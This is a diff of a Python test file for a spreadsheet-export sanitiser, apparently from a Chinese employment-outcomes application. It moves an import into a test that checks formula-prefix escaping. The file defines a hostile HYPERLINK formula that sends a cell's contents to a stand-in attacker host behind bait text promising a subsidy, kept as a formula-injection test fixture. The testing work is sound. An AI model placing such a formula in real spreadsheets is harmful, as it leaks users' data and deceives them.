@@ -11,7 +11,6 @@ from openpyxl import load_workbook
 from backend.accounts.models import Role
 from backend.classes.models import ClassStatus
 from backend.employment.outcomes import EmploymentRecord, EmploymentStatus, OutcomeSource
-from backend.security.xlsx import neutralise
 from tests.support.client import Client
 from tests.support.factories import (
     auth,
@@ -27,6 +26,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")'
 
 
 def test_formula_prefixes_are_neutralised_and_control_characters_dropped() -> None:
+    from backend.security.xlsx import neutralise
+
     for prefix in ("=", "+", "-", "@", "\t", "\r"):
         assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
     assert neutralise("福州\x01公司\x00") == "福州公司"
